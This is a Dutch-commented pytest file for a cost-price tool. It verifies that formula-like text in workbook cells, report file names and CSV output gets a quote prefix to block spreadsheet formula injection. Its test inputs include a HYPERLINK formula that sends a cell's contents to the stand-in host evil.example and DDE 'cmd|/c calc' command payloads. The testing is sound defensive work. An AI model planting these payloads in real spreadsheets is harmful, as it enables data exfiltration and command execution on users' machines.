"""Tekst die op een formule lijkt, krijgt in elke uitvoercel het aanhalingsteken-voorvoegsel (quote_prefix):
in het werkboek (naam, diensten, functies, titels), in het onderzoeksrapport (afgewezen bestanden) en in CSV."""

from __future__ import annotations

import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from kostprijs.io.celtekst import Aanhaling, csv_veilig, lijkt_formule
from tests.conftest import REFERENTIE
from tests.test_onderzoek_inlezen import script

INJECTIES = ('=HYPERLINK("http://evil.example/?x="&B1,"Klik")', "+cmd|'/c calc'!A0", "-2+3", "@SUM(A1)")


def formuletekst_zonder_voorvoegsel(pad: Path) -> list[str]:
    """Cellen met tekst die op een formule lijkt maar zonder quote_prefix (of als formule opgeslagen)."""
    wb = openpyxl.load_workbook(pad)
    fout = []
    for ws in wb.worksheets:
        for rij in ws.iter_rows():
            for c in rij:
                if isinstance(c.value, str) and lijkt_formule(c.value) and c.data_type != "f" and not c.quotePrefix:
                    fout.append(f"{ws.title}!{c.coordinate}: {c.value!r}")
    return fout


def formuleteksten(pad: Path) -> set[str]:
    wb = openpyxl.load_workbook(pad)
    return {c.value for ws in wb.worksheets for rij in ws.iter_rows() for c in rij
            if isinstance(c.value, str) and lijkt_formule(c.value) and c.data_type == "s"}


def test_variant_behoudt_de_opmaak(tmp_path: Path) -> None:
    import xlsxwriter

    pad = tmp_path / "a.xlsx"
    wb = xlsxwriter.Workbook(str(pad), {"strings_to_formulas": False})
    ws = wb.add_worksheet("Blad")
    a = Aanhaling(wb)
    vet = wb.add_format({"bold": True, "bg_color": "#FFF2CC"})
    for i, t in enumerate((*INJECTIES, "gewone tekst")):
        a.schrijf(ws, i, 0, t, vet)
        a.schrijf(ws, i, 1, t)
    wb.close()
    ws2 = openpyxl.load_workbook(pad)["Blad"]
    for i, t in enumerate((*INJECTIES, "gewone tekst"), start=1):
        for kol in ("A", "B"):
            c = ws2[f"{kol}{i}"]
            assert c.value == t and c.data_type == "s"
            assert c.quotePrefix == lijkt_formule(t)
        assert ws2[f"A{i}"].font.b and ws2[f"A{i}"].fill.fgColor.rgb.endswith("FFF2CC")


def test_werkboek_namen_van_gebruikers_met_voorvoegsel(tmp_path: Path) -> None:
    from kostprijs import lees_model_tekst
    from kostprijs.excel import lees_werkboek, schrijf_werkboek

    tekst = REFERENTIE.read_text(encoding="utf-8").replace("naam: KWV referentiecasus 4 plaatsen",
                                                           f"naam: '{INJECTIES[0]}'", 1)
    tekst = tekst.replace("naam: groepsleiding", "naam: '-groepsleiding'", 1)
    model = lees_model_tekst(tekst, "m.yaml")
    pad = tmp_path / "w.xlsx"
    schrijf_werkboek(model, pad)
    assert formuletekst_zonder_voorvoegsel(pad) == []
    gevonden = formuleteksten(pad)
    assert INJECTIES[0] in gevonden and "-groepsleiding" in gevonden
    assert any(t.startswith(INJECTIES[0]) and t.endswith("(2025)") for t in gevonden), "de titelregel van elk blad"
    assert lees_werkboek(pad).naam == INJECTIES[0]


def test_rapport_bestandsnamen_met_voorvoegsel(tmp_path: Path) -> None:
    from kostprijs.onderzoek.rapport import schrijf_rapport
    from kostprijs.onderzoek.studie import onderzoek

    script("maak_synthetische_studie").maak_studie(tmp_path / "s", aantal=3, zaad=2)
    for i, naam in enumerate(("=HYPERLINK(1).xlsx", "-2+3.xlsx", "@x.xlsx")):
        (tmp_path / "s" / naam).write_bytes(b"geen zip " * (i + 1))
    shutil.copy(tmp_path / "s" / "aanbieder-001.xlsx", tmp_path / "s" / "+kopie.xlsx")
    studie = onderzoek(tmp_path / "s")
    pad = tmp_path / "rapport.xlsx"
    schrijf_rapport(studie, pad)
    assert formuletekst_zonder_voorvoegsel(pad) == []
    assert {"=HYPERLINK(1).xlsx", "-2+3.xlsx", "@x.xlsx"} <= formuleteksten(pad)


@pytest.mark.parametrize(("tekst", "csv"), [("=1+1", "'=1+1"), ("-x", "'-x"), ("\tx", "'\tx"), ("x=1", "x=1"),
                                            ("", "")])
def test_csv_veilig(tekst: str, csv: str) -> None:
    assert csv_veilig(tekst) == csv


def test_scenario_csv_zet_voorvoegsel_voor_tekst_niet_voor_getallen() -> None:
    from kostprijs.scenario.uitvoer import csv_tekst

    df = pd.DataFrame({"regel": ["=cmd|' /C calc'!A0", "dagtarief"], "tarief": [-1.5, 2.0]})
    regels = csv_tekst(df).splitlines()
    assert regels[1].startswith("\"'=cmd") or regels[1].startswith("'=cmd")
    assert regels[1].endswith(",-1.5") and regels[2] == "dagtarief,2.0"


